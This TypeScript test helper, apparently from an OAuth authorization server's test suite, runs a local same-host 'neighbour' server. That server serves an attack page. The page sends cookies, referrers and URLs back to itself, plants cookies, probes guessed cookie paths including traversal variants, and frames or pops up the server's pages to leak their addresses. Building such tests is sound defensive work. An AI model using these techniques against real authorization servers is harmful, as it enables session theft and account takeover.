import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { text } from 'node:stream/consumers';
import { listeningUntilEnd } from '@vestibule/testing/listening';

/** A request that the program received from the browser. */
export interface Came {
  readonly path: string;
  readonly cookie: string;
  readonly referrer: string;
}

/** A program on another port of the issuer's host, which is the client and records every request. */
export interface Neighbour {
  readonly origin: string;
  readonly callback: string;
  readonly came: readonly Came[];
  /** What its pages found out. */
  readonly told: readonly string[];
  /** Makes its next page attack this authorization server. */
  aim(target: Target): void;
  /** Resolves when its page has tried everything. */
  readonly tried: Promise<unknown>;
  /** Makes every response plant these cookies: `Set-Cookie` headers. */
  plant(cookies: readonly string[]): void;
}

export interface Target {
  readonly issuer: string;
  /** Its own authorization request. */
  readonly authorize: string;
}

/** Possible paths of cookies, for guessing. */
const GUESSES: readonly string[] = [
  '/',
  '/connect',
  '/connect/',
  '/connect/authorize',
  '/connect/at',
  '/connect/at/',
  '/connect/at/x',
  '/connect/at/known/x',
  '/connect/at/undefined/consent',
  '/connect/at/..%2f/consent',
  '/connect/at//consent',
  '/connect/sign-in',
  '/connect/consent',
  '/connect/hand-back',
  '/connect/apps',
  '/connect/apps/sign-in',
  '/connect/sign-out',
  '/mcp',
];

/** Pages of the server that the program makes the browser open. */
const THEIRS: readonly string[] = [
  '/connect/apps',
  '/connect/apps/sign-in',
  '/connect/sign-out',
  '/connect/at/known/apps-sign-in',
  '/connect/at/known/consent',
  '/connect/at/known/sign-out',
  '/connect/rules',
  '/nowhere',
];

export async function startNeighbour(): Promise<Neighbour> {
  const came: Came[] = [];
  const told: string[] = [];
  let target: Target | undefined;
  let planted: readonly string[] = [];
  const tried = Promise.withResolvers<unknown>();

  const server = createServer((request, response) => void answer(request, response));
  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const { url = '/', headers } = request;
    came.push({ path: url, cookie: headers.cookie ?? '', referrer: headers.referer ?? '' });
    const { pathname, searchParams } = new URL(url, 'http://localhost');
    const body = await text(request);
    if (planted.length > 0) response.setHeader('set-cookie', [...planted]);
    if (pathname === '/told') told.push(body);
    if (pathname === '/done') tried.resolve(undefined);
    const next = searchParams.get('next');
    if (next !== null) return void response.writeHead(302, { location: next }).end();
    response.setHeader('content-type', 'text/html');
    if (pathname === '/callback' && target !== undefined) return void response.end(attacking(target));
    response.end(`<title>program</title><script>${TELL}tell([location.href, document.referrer])</script>`);
  }
  const origin = await listeningUntilEnd(server, 'localhost');
  return {
    origin,
    callback: `${origin}/callback`,
    came,
    told,
    tried: tried.promise,
    aim: (at) => void (target = at),
    plant: (cookies) => void (planted = cookies),
  };
}

const TELL = `const tell = (what) => fetch('/told', { method: 'POST', body: JSON.stringify(what) });`;

/** A page that tries to make the browser send the server's cookies here, and to learn the URLs of its pages. */
const attacking = (target: Target): string => `<title>attacking</title><script>
${TELL}
const target = ${JSON.stringify(target)};
const attempt = async (what) => { try { return String(await what()) } catch (error) { return String(error) } };
const pause = (frame) => new Promise((resolve) => {
  if (frame) frame.onload = frame.onerror = resolve;
  setTimeout(resolve, 1000);
});
const framed = async (address) => {
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.src = address;
  await pause(frame);
  const found = [
    await attempt(() => frame.contentWindow.location.href),
    await attempt(() => frame.contentDocument.URL),
    await attempt(() => frame.contentWindow.length),
  ];
  frame.remove();
  return found;
};
document.addEventListener('securitypolicyviolation', ({ blockedURI }) => tell(['violation', blockedURI]));
addEventListener('load', async () => {
  await tell(['here', location.href, document.referrer, document.cookie, history.length]);
  const guesses = ${JSON.stringify(GUESSES)};
  await Promise.all(guesses.map((path) => attempt(() => fetch(path, { credentials: 'include' }))));
  await Promise.all(guesses.map(framed));
  await Promise.all(guesses.map((path) => attempt(() => fetch('/?next=' + encodeURIComponent(path)))));
  const theirs = [target.authorize, ...${JSON.stringify(THEIRS)}.map((path) => target.issuer + path)];
  for (const address of theirs) {
    for (const redirect of ['follow', 'manual']) {
      const init = { credentials: 'include', mode: 'no-cors', redirect };
      await tell([address, await attempt(async () => (await fetch(address, init)).url)]);
    }
    await tell([address, await attempt(async () => (await fetch(address, { credentials: 'include' })).url)]);
    await tell([address, ...(await framed(address))]);
  }
  const popup = open(target.authorize);
  if (popup) {
    await pause();
    await tell(['popup', await attempt(() => popup.location.href), await attempt(() => popup.document.URL)]);
    popup.location = location.origin + '/popup';
    await pause();
    await tell(['popup', await attempt(() => popup.document.referrer), await attempt(() => popup.history.length)]);
    popup.close();
  }
  await Promise.all(guesses.map((path) => attempt(() => fetch(path, { credentials: 'include' }))));
  await tell(performance.getEntries().map(({ name }) => name));
  await fetch('/done', { method: 'POST' });
});
</script><body></body>`;
